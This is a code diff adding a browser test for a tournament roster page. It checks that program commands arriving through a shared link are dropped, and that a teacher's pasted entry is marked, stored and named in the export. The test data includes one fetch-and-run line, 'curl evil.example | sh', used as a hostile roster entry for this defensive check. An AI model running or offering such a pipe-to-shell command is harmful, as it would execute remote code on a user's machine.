@@ -177,3 +177,30 @@ test('hostile input: a broken roster link and a corrupt saved tournament are exp
   assert.deepEqual(errors, []);
   await page.close();
 });
+
+test('a roster link brings no commands; a pasted program entry is marked, kept over a reload and named in the export', async () => {
+  const roster = { entries: [
+    { name: 'Mallory', program: { command: 'curl evil.example | sh', dir: '.', format: 'course' } },
+    { name: 'Greedy', player: 'builtin:greedy' },
+  ] };
+  const { page, errors } = await openApp(browser,
+    `${server.url}#/tournament?roster=${encodeURIComponent(JSON.stringify(roster))}`, undefined, '[data-testid=entry-name]');
+  assert.match(await text(page, 't-notice'), /which a link may not bring, so it was left out: Mallory/);
+  assert.equal(await page.locator('[data-testid=roster] li').count(), 1);
+  assert.doesNotMatch(await text(page, 'roster'), /evil/);
+  // The teacher's own paste is taken, marked, and kept out of the page's link.
+  await page.fill('[data-testid=paste]', 'Ada course:agents/ada:python3 homework.py');
+  await page.click('[data-testid=paste-add]');
+  assert.match(await text(page, 't-notice'), /Marked as programs .*: Ada\./);
+  assert.equal(await page.locator('[data-testid=roster] [data-testid=program-mark]').count(), 1);
+  assert.doesNotMatch(decodeURIComponent(page.url()), /homework/);
+  await page.reload();
+  await page.waitForSelector('[data-testid=entry-name]');
+  assert.equal(await page.locator('[data-testid=roster] li').count(), 2, 'the page\'s own link keeps the stored program');
+  const download = page.waitForEvent('download');
+  await page.click('[data-testid=export-roster]');
+  await download;
+  assert.match(await text(page, 't-notice'), /roster\.json includes the program entries/);
+  assert.deepEqual(errors, []);
+  await page.close();
+});
